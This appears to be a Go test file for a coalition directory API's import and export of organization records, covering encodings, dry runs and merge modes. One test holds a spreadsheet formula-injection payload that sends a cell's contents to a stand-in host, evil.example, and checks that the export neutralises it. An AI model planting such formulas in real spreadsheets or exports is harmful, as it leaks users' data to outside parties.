package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"sort"
	"strings"
	"testing"

	"golang.org/x/text/encoding/charmap"

	"github.com/coalition-directory/coalition/api"
	"github.com/coalition-directory/coalition/internal/directory"
)

// records is every live organization, by id, as its fields: what an import
// may change, named as an import report names them.
type records map[string]map[string]string

// records returns the directory as the NDJSON export has it, split into
// fields: the original language's name and description are "name" and
// "description", the other languages are "translations", and updated_at,
// which every write changes, is left out.
func (s *testServer) records(secret string) records {
	s.t.Helper()
	r := s.send(http.MethodGet, "/api/v1/export?format=ndjson", secret, nil)
	wantStatus(s.t, r, http.StatusOK)
	out := records{}
	for line := range strings.SplitSeq(strings.TrimSpace(string(r.body)), "\n") {
		if line == "" {
			continue
		}
		var m map[string]json.RawMessage
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			s.t.Fatalf("export line %q: %v", line, err)
		}
		var id, orig string
		json.Unmarshal(m["id"], &id)
		json.Unmarshal(m["original_language"], &orig)
		fields := map[string]string{}
		for k, v := range m {
			switch k {
			case "id", "updated_at":
			case "translations":
				var tr map[string]map[string]json.RawMessage
				if err := json.Unmarshal(v, &tr); err != nil {
					s.t.Fatal(err)
				}
				var others []string
				for lang, t := range tr {
					if lang != orig {
						others = append(others, lang+":"+string(t["name"])+string(t["description"]))
						continue
					}
					fields["name"] = string(t["name"])
					if d, ok := t["description"]; ok {
						fields["description"] = string(d)
					}
				}
				if len(others) > 0 {
					sort.Strings(others)
					fields["translations"] = strings.Join(others, ";")
				}
			default:
				fields[k] = string(v)
			}
		}
		out[id] = fields
	}
	return out
}

// checkReport fails t unless the report names exactly the fields that
// changed between before and after, record by record: a created record
// names the fields it has, an updated one the fields whose values differ,
// and a record the report does not name must not have changed at all.
func checkReport(t *testing.T, before, after records, rep api.ImportReport) {
	t.Helper()
	rows := map[string]api.ImportRow{}
	for _, r := range rep.Rows {
		rows[r.ID] = r
	}
	for id, a := range after {
		row, reported := rows[id]
		b, existed := before[id]
		var changed []string
		for f, v := range a {
			if f == "created_at" && !existed {
				continue // when the file gives none, the import's time
			}
			if bv, ok := b[f]; !ok || bv != v {
				changed = append(changed, f)
			}
		}
		for f := range b {
			if _, ok := a[f]; !ok {
				changed = append(changed, f)
			}
		}
		sort.Strings(changed)
		var want []string
		if reported {
			want = slices.Clone(row.Changes)
			sort.Strings(want)
		}
		switch {
		case !existed && (!reported || row.Status != "created"):
			t.Errorf("organization %s %s was created, but the report says %+v", id, a["slug"], row)
		case existed && reported && row.Status == "created":
			t.Errorf("organization %s existed, but the report says it was created", id)
		case !slices.Equal(changed, want):
			t.Errorf("organization %s %s: fields %v changed, the report (%s) says %v", id, a["slug"], changed, row.Status, want)
		}
	}
	for id := range before {
		if _, ok := after[id]; !ok {
			t.Errorf("organization %s %s disappeared", id, before[id]["slug"])
		}
	}
}

// importChecked imports file, first as a dry run, and checks that the dry
// run writes nothing and reports what the import then does, field by field.
func (s *testServer) importChecked(admin, contentType, query, file string) api.ImportReport {
	s.t.Helper()
	before := s.records(admin)
	sep := "?"
	if query != "" {
		sep = "&"
	}
	r := s.importFile(admin, contentType, query+sep+"dry_run=true", file)
	wantStatus(s.t, r, http.StatusOK)
	dry := decode[api.ImportReport](s.t, r)
	checkReport(s.t, before, s.records(admin), api.ImportReport{})
	r = s.importFile(admin, contentType, query, file)
	wantStatus(s.t, r, http.StatusOK)
	rep := decode[api.ImportReport](s.t, r)
	checkReport(s.t, before, s.records(admin), rep)
	for i := range dry.Rows {
		if dry.Rows[i].Status == "created" {
			dry.Rows[i].ID, dry.Rows[i].Slug = rep.Rows[i].ID, rep.Rows[i].Slug // made anew
		}
	}
	dry.DryRun = false
	if a, b := mustJSON(s.t, dry), mustJSON(s.t, rep); a != b {
		s.t.Errorf("the dry run reported\n%s\nthe import\n%s", a, b)
	}
	return rep
}

const hopeID = "3e98c4f6-40e1-4c96-9f1c-9935719f9212" // nadezhda-nizhny-novgorod of the demo

func TestImportWindows1251CSV(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, nil)
	admin := s.key(directory.RoleAdmin)
	// printf 'name_ru;country_code;city\r\nЦентр «Заря»;RU;Пермь\r\n' | iconv -f utf-8 -t cp1251
	file, err := charmap.Windows1251.NewEncoder().String("name_ru;country_code;city\r\nЦентр «Заря»;RU;Пермь\r\n")
	if err != nil {
		t.Fatal(err)
	}
	rep := s.importChecked(admin, "text/csv", "", file)
	if rep.Encoding != "windows-1251" || rep.Created != 1 || rep.Rows[0].Slug != "tsentr-zarya" {
		t.Fatalf("report %+v", rep)
	}
	got := decode[api.Organization](t, s.get("/api/v1/organizations/tsentr-zarya?lang=ru"))
	if got.Name != "Центр «Заря»" || got.City != "Пермь" {
		t.Errorf("imported %q in %q", got.Name, got.City)
	}
	rep = s.importChecked(admin, "text/csv", "", "slug,city\ntsentr-zarya,Соликамск\n")
	if rep.Encoding != "utf-8" || !slices.Equal(rep.Rows[0].Changes, []string{"city"}) {
		t.Errorf("a UTF-8 file: report %+v", rep)
	}

	// A file read as UTF-8 whose row after the first 64 KiB is not: that
	// row is invalid.
	later := "name_ru,country_code,description_ru\n"
	for i := range 17 {
		later += fmt.Sprintf("Организация %d,RU,%s\n", i, strings.Repeat("ж", 2000))
	}
	bad, _ := charmap.Windows1251.NewEncoder().String("Пермский центр,RU,\n")
	r := s.importFile(admin, "text/csv", "", later+bad)
	wantStatus(t, r, http.StatusBadRequest)
	if p := decode[api.Problem](t, r); len(p.Errors) != 1 || p.Errors[0].Field != "rows[19].name_ru" || !strings.Contains(p.Errors[0].Message, "UTF-8") {
		t.Errorf("a later Windows-1251 row: %+v", p.Errors)
	}
}

func TestImportNDJSONBadLines(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, searchFixtures())
	admin := s.key(directory.RoleAdmin)
	good := `{"name":"Центр «Заря»","country_code":"RU"}` + "\n"
	latin1 := `{"name":"Caf` + "\xe9" + `","country_code":"FR"}` + "\n"
	long := `{"name":"` + strings.Repeat("я", 3<<20) + `","country_code":"RU"}` + "\n"
	for _, tt := range []struct {
		name, file, field, message string
	}{
		{"invalid UTF-8", good + latin1 + good, "rows[2].body", "UTF-8"},
		{"a line over the limit", good + good + long + good, "rows[3].body", "longer than"},
	} {
		before := s.records(admin)
		r := s.importFile(admin, "application/x-ndjson", "", tt.file)
		wantStatus(t, r, http.StatusBadRequest)
		p := decode[api.Problem](t, r)
		if len(p.Errors) != 1 || p.Errors[0].Field != tt.field || !strings.Contains(p.Errors[0].Message, tt.message) {
			t.Errorf("%s: errors %+v, want %s", tt.name, p.Errors, tt.field)
		}
		checkReport(t, before, s.records(admin), api.ImportReport{})
	}
}

func TestImportCSVChangesOnlyItsColumns(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, nil)
	admin := s.key(directory.RoleAdmin)
	for _, tt := range []struct {
		name, file string
		changes    []string
	}{
		{"the issue's example", "slug,name_ru,country_code,city\n" +
			"nadezhda-nizhny-novgorod,Центр «Надежда» Нижнего Новгорода,RU,Дзержинск\n", []string{"city"}},
		{"by id", "id;city\n" + hopeID + ";Нижний Новгород\n", []string{"city"}},
		{"an empty cell clears its field", "slug,email,website\nnadezhda-nizhny-novgorod,,https://nadezhda.example.org\n", []string{"website", "email"}},
		{"a phone's column", "slug,phone_2_description\nnadezhda-nizhny-novgorod,только по будням\n", []string{"phones"}},
		{"a contact's column", "slug,contact_3_role\nnadezhda-nizhny-novgorod,Юрист\n", []string{"contacts"}},
		{"the same again", "slug,contact_3_role\nnadezhda-nizhny-novgorod,Юрист\n", nil},
		{"an English name", "slug,name_en\nnadezhda-nizhny-novgorod,Nadezhda Centre\n", []string{"translations"}},
	} {
		rep := s.importChecked(admin, "text/csv", "", tt.file)
		if len(rep.Rows) != 1 || !slices.Equal(rep.Rows[0].Changes, tt.changes) || rep.Rows[0].ID != hopeID {
			t.Errorf("%s: report %+v, want changes %v", tt.name, rep.Rows, tt.changes)
		}
	}
	got := decode[api.Organization](t, s.send(http.MethodGet, "/api/v1/organizations/"+hopeID, admin, nil))
	if len(got.Contacts) != 3 || len(got.Phones) != 2 || got.Phones[0].Description != "пн–пт 10:00–18:00" || got.Email != "" || got.City != "Нижний Новгород" {
		t.Errorf("after the imports: %d contacts, phones %+v, email %q, city %q", len(got.Contacts), got.Phones, got.Email, got.City)
	}
}

func TestImportNDJSONReplaceAndMerge(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, nil)
	admin := s.key(directory.RoleAdmin)

	rep := s.importChecked(admin, "application/x-ndjson", "?mode=merge", `{"slug":"nadezhda-nizhny-novgorod","city":"Дзержинск","email":null}`+"\n")
	if !slices.Equal(rep.Rows[0].Changes, []string{"email", "city"}) {
		t.Errorf("merge: %+v", rep.Rows)
	}
	rep = s.importChecked(admin, "application/x-ndjson", "?mode=merge", `{"id":"`+hopeID+`","translations":{"ru":{"name":"Центр «Надежда»"}}}`+"\n")
	if !slices.Equal(rep.Rows[0].Changes, []string{"name"}) {
		t.Errorf("merge of the original language's translation: %+v", rep.Rows)
	}

	// A whole line in the write shape of POST: what it lacks is cleared,
	// and the defaults are POST's.
	line := `{"slug":"nadezhda-nizhny-novgorod","name":"Центр «Надежда»","country_code":"RU","city":"Дзержинск"}`
	rep = s.importChecked(admin, "application/x-ndjson", "", line+"\n")
	if rep.Updated != 1 || slices.Contains(rep.Rows[0].Changes, "membership_status") || !slices.Contains(rep.Rows[0].Changes, "contacts") {
		t.Errorf("replace: %+v", rep.Rows)
	}
	got := decode[api.Organization](t, s.send(http.MethodGet, "/api/v1/organizations/"+hopeID, admin, nil))
	if got.MembershipStatus != "member" || got.Email != "" || len(got.Contacts) != 0 || got.OriginalLanguage != "ru" {
		t.Errorf("after replace: %+v", got)
	}

	posted := s.send(http.MethodPost, "/api/v1/organizations", admin, map[string]any{"name": "Фонд «Восход»", "country_code": "KZ"})
	wantStatus(t, posted, http.StatusCreated)
	rep = s.importChecked(admin, "application/x-ndjson", "", `{"name":"Фонд «Закат»","country_code":"KZ"}`+"\n")
	imported := decode[api.Organization](t, s.send(http.MethodGet, "/api/v1/organizations/"+rep.Rows[0].ID, admin, nil))
	if p := decode[api.Organization](t, posted); imported.MembershipStatus != p.MembershipStatus || imported.OriginalLanguage != p.OriginalLanguage {
		t.Errorf("imported %s/%s, posted %s/%s", imported.MembershipStatus, imported.OriginalLanguage, p.MembershipStatus, p.OriginalLanguage)
	}

	r := s.importFile(admin, "application/x-ndjson", "", `{"name":"А","translations":{"ru":{"name":"Б"}},"country_code":"RU"}`+"\n")
	wantStatus(t, r, http.StatusBadRequest)
	if p := decode[api.Problem](t, r); len(p.Errors) != 1 || p.Errors[0].Field != "rows[1].name" {
		t.Errorf("two names: %+v", p.Errors)
	}
	wantStatus(t, s.importFile(admin, "text/csv", "?mode=merge", "slug,city\nx,y\n"), http.StatusBadRequest)
	wantStatus(t, s.importFile(admin, "application/x-ndjson", "?mode=patch", line), http.StatusBadRequest)
}

func TestImportMatchesOnlyByGivenIdentity(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, nil)
	admin := s.key(directory.RoleAdmin)
	perm := s.send(http.MethodPost, "/api/v1/organizations", admin, map[string]any{
		"name": "Центр «Надежда»", "country_code": "RU", "region_code": "RU-PER", "city": "Пермь",
		"email": "info@nadezhda-perm.example.org", "focus_areas": []string{"shelter"},
		"phones": []map[string]string{{"number": "+73422000000"}},
	})
	wantStatus(t, perm, http.StatusCreated)
	permOrg := decode[api.Organization](t, perm)

	file := "name_ru,country_code,region_code,city,email,focus_areas\n" +
		"Центр «Надежда»,RU,RU-OMS,Омск,info@nadezhda-omsk.example.org,hotline\n" +
		"ЦЕНТР НАДЕЖДА,RU,RU-OMS,Омск,,\n"
	rep := s.importChecked(admin, "text/csv", "", file)
	if rep.Created != 2 || rep.Updated != 0 {
		t.Fatalf("report %+v", rep)
	}
	first, second := rep.Rows[0], rep.Rows[1]
	if first.ID == permOrg.ID || first.Slug == permOrg.Slug || second.Slug == first.Slug {
		t.Errorf("slugs %s and %s beside %s", first.Slug, second.Slug, permOrg.Slug)
	}
	if len(first.Warnings) != 1 || !strings.Contains(first.Warnings[0], permOrg.Slug) {
		t.Errorf("first row's warnings: %q", first.Warnings)
	}
	if len(second.Warnings) != 2 || !strings.Contains(second.Warnings[0], "row 2") {
		t.Errorf("second row's warnings: %q", second.Warnings)
	}
	want := []string{"slug", "original_language", "name", "country_code", "region_code", "city", "focus_areas", "membership_status"}
	if !slices.Equal(slices.Sorted(slices.Values(first.Changes)), slices.Sorted(slices.Values(append(want, "email")))) {
		t.Errorf("a created row's changes: %v", first.Changes)
	}
	// Another country's organization of the same name is no warning.
	rep = s.importChecked(admin, "text/csv", "", "name_ru,country_code\nЦентр «Надежда»,KZ\n")
	if len(rep.Rows[0].Warnings) != 0 {
		t.Errorf("warnings %q", rep.Rows[0].Warnings)
	}
}

// csvCells returns a CSV file's rows.
func csvCells(t *testing.T, file []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestExportCSVIsSpreadsheetSafe(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, nil)
	admin := s.key(directory.RoleAdmin)
	formula := `=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")`
	created := s.send(http.MethodPost, "/api/v1/organizations", admin, map[string]any{
		"slug": "formula", "name": formula, "description": "- пункт первый\n- пункт второй", "acronym": "@ЦН",
		"country_code": "RU", "phones": []map[string]string{{"number": "+78312000077"}},
		"translations": map[string]any{"en": map[string]string{"name": "'Quoted' name"}},
	})
	wantStatus(t, created, http.StatusCreated)

	export := s.send(http.MethodGet, "/api/v1/export?format=csv", admin, nil)
	wantStatus(t, export, http.StatusOK)
	rows := csvCells(t, export.body)
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var row []string
	for _, r := range rows[1:] {
		if r[col["slug"]] == "formula" {
			row = r
		}
	}
	for name, want := range map[string]string{
		"name_ru": "'" + formula, "description_ru": "'- пункт первый\n- пункт второй", "acronym": "'@ЦН",
		"phone_1": "'+78312000077", "name_en": "''Quoted' name",
	} {
		if row[col[name]] != want {
			t.Errorf("%s is exported as %q, want %q", name, row[col[name]], want)
		}
	}

	// Export, import elsewhere, export: the same bytes.
	to := newTestServer(t, []directory.Organization{})
	toAdmin := to.key(directory.RoleAdmin)
	to.importChecked(toAdmin, "text/csv", "", string(export.body))
	again := to.send(http.MethodGet, "/api/v1/export?format=csv", toAdmin, nil)
	if !bytes.Equal(export.body, again.body) {
		t.Errorf("export, import, export differs")
	}
	got := decode[api.Organization](t, to.get("/api/v1/organizations/formula?lang=ru"))
	if got.Name != formula || got.Phones[0].Number != "+78312000077" {
		t.Errorf("imported %q, %+v", got.Name, got.Phones)
	}

	// As a spreadsheet in a Russian locale saves it: semicolons, no BOM,
	// TRUE for true, dates as DD.MM.YYYY, the phone numbers it showed as
	// text without their '. Importing it changes nothing.
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Comma, w.UseCRLF = ';', true
	for i, r := range rows {
		out := slices.Clone(r)
		for j, cell := range out {
			switch h := rows[0][j]; {
			case i == 0:
			case cell == "true":
				out[j] = "TRUE"
			case h == "member_since" || h == "member_until":
				if len(cell) == 10 {
					out[j] = cell[8:10] + "." + cell[5:7] + "." + cell[0:4]
				}
			case strings.HasPrefix(cell, "'+"):
				out[j] = cell[1:]
			}
		}
		w.Write(out)
	}
	w.Flush()
	if !strings.Contains(b.String(), ";TRUE;") || !strings.Contains(b.String(), ";12.05.2003;") {
		t.Fatalf("the test's spreadsheet changed nothing")
	}
	rep := s.importChecked(admin, "text/csv", "", b.String())
	if rep.Unchanged != len(rows)-1 {
		t.Errorf("a spreadsheet's file: %d of %d unchanged", rep.Unchanged, len(rows)-1)
	}
}

// TestImportWithoutRowsIsRefused sends files with nothing to import: each is
// a 400 naming the file, in a dry run too, and writes nothing; a file with
// one row after the same header imports it.
func TestImportWithoutRowsIsRefused(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, searchFixtures())
	admin := s.key(directory.RoleAdmin)
	header := "name_ru,country_code,city\r\n"
	for _, c := range []struct{ name, contentType, body string }{
		{"csv header alone", "text/csv", header},
		{"csv header and blank rows", "text/csv", header + "\r\n,,\r\n"},
		{"csv with a BOM and a header alone", "text/csv", "\ufeff" + header},
		{"empty csv", "text/csv", ""},
		{"empty ndjson", "application/x-ndjson", ""},
		{"ndjson of blank lines", "application/x-ndjson", "\n\n  \n"},
	} {
		for _, query := range []string{"", "?dry_run=true"} {
			r := s.importFile(admin, c.contentType, query, c.body)
			p := wantProblem(t, r, "file")
			if p.Detail != "the file has no rows; nothing was imported" {
				t.Errorf("%s%s: detail %q", c.name, query, p.Detail)
			}
		}
	}
	wantStatus(t, s.importFile(admin, "text/csv", "", header+"Центр «Заря»,RU,Пермь\r\n"), http.StatusOK)
	if got, want := len(s.listAll("", 100)), len(searchFixtures())+1; got != want {
		t.Errorf("%d organizations after the imports, want %d", got, want)
	}
}
